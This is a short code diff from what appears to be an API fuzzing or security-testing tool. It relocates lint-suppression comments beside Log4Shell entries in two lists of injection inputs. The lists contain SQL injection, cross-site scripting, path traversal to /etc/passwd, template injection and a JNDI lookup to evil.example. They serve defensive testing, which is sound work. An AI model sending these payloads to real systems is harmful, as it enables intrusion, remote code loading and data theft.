@@ -123,11 +123,11 @@ function exampleOf(s: JsonSchema, name = ''): unknown {
   }
 }
 
-// biome-ignore lint/suspicious/noTemplateCurlyInString: '${jndi:...}' is a deliberate literal (Log4Shell-style payload), never a template
 const INJECTIONS = [
   "' OR 1=1 --",
   '<script>alert(1)</script>',
   '../../etc/passwd',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a deliberate Log4Shell-style payload, never a template
   '${jndi:ldap://evil.example/a}',
   '"; DROP TABLE users; --',
   '{{7*7}}',
@@ -201,13 +201,13 @@ function candidatesOf(op: Operation): Candidate[] {
   };
   // Path parameters: injections, encoded slashes, traversal, over-long.
   for (const p of Object.keys(base.params)) {
-    // biome-ignore lint/suspicious/noTemplateCurlyInString: '${jndi:...}' is a deliberate literal (Log4Shell-style payload), never a template
     for (const [i, v] of [
       'a/b',
       '../../etc/passwd',
       '..\\..\\windows',
       "' OR 1=1 --",
       '<script>',
+      // biome-ignore lint/suspicious/noTemplateCurlyInString: a deliberate Log4Shell-style payload, never a template
       '${jndi:ldap://x/a}',
       'x'.repeat(300),
       'a b',
